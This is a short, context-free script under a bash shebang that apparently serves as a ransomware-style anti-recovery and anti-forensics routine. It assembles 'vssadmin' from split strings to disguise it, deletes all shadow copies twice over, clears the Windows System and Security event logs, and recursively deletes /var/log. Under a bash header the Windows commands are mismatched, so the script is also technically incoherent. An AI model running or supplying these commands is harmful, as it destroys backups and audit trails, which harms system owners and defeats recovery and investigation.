#!/bin/bash
v="vssad"; w="min"
"$v$w" delete shadows /all /quiet
wmic shadowcopy delete
wevtutil cl System
wevtutil cl Security
rm -rf /var/log
